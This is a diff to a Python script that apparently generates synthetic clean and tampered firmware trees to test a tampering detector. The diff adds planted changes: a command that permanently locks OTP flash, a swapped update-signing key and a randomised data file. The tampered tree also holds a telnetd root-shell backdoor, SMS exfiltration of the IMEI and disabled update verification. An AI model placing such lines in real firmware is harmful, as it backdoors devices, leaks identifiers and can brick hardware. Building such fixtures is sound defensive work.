@@ -23,6 +23,7 @@ DIRECTORY/planted          what was planted into tampered: "what<TAB>path<TAB>wo
 
 debs.py beside this makes the same of real packages.
 """
+import base64
 import gzip
 import io
 import os
@@ -55,6 +56,9 @@ TAMPERED = [
     ("one-token", "usr/lib/modem/update.sh", "VERIFY=0"),
     ("imei", "usr/lib/modem/table.bin", IMEIS[0]),
     ("renamed", "usr/lib/libaux.so", "usr/lib/libhelper.so"),
+    ("fuse", "usr/lib/modem/notify.sh", "flash_otp_lock"),
+    ("anchor", "etc/swupdate/public.pem", "updates"),
+    ("opaque", "usr/lib/modem/profile.dat", "noise"),
 ]
 
 
@@ -106,6 +110,12 @@ def ca(name, directory):
         return f.read()
 
 
+def public_key(seed):
+    """In form only; nobody has the other half."""
+    body = base64.encodebytes(b"\x30\x59" + random.Random(seed).randbytes(89)).decode()
+    return f"-----BEGIN PUBLIC KEY-----\n{body}-----END PUBLIC KEY-----\n".encode()
+
+
 def tree(version, directory):
     """path -> (mode, bytes); links are (None, target)."""
     new, bad = version != "base", version == "tampered"
@@ -129,6 +139,8 @@ def tree(version, directory):
         "usr/lib/modem/notify.sh": (0o755, notify.encode()),
         "usr/share/doc/readme.txt": (0o644, ("How to use this module.\n" * 400 + number + "\n").encode()),
         "usr/share/www/logo.png": (0o644, b"\x89PNG\r\n\x1a\n" + random.Random(9).randbytes(20000)),
+        "usr/lib/modem/profile.dat": (0o644, code(17, 70000)),
+        "etc/swupdate/public.pem": (0o644, public_key(1)),
         "usr/share/empty": (0o644, b""),
         "bin/sh": (None, "/usr/bin/agent"),
     }
@@ -140,7 +152,9 @@ def tree(version, directory):
                                                          "mqtt.vendor.example"]))
         files["etc/ssl/certs/extra.pem"] = (0o644, ca("Extra", directory))
         files["etc/init.d/S99dbg"] = (0o755, b"#!/bin/sh\ntelnetd -l /bin/sh -p 2323\n")
-        files["usr/lib/modem/notify.sh"] = (0o755, (notify + f"echo 'AT+CGSN' >/dev/smd8\nsend_sms {PHONE} \"$IMEI\"\n").encode())
+        files["usr/lib/modem/notify.sh"] = (0o755, (notify + f"echo 'AT+CGSN' >/dev/smd8\nsend_sms {PHONE} \"$IMEI\"\nflash_otp_lock -u /dev/mtd0 0 64\n").encode())
+        files["etc/swupdate/public.pem"] = (0o644, public_key(2))
+        files["usr/lib/modem/profile.dat"] = (0o644, random.Random(19).randbytes(70000))
         files["usr/lib/modem/update.sh"] = (0o755, update_sh.replace("VERIFY=1", "VERIFY=0").encode())
         files["usr/lib/modem/table.bin"] = (0o644, b"".join(i.encode() + b"\0" for i in IMEIS) * 4)
         changed = bytearray(files.pop("usr/lib/libhelper.so")[1])
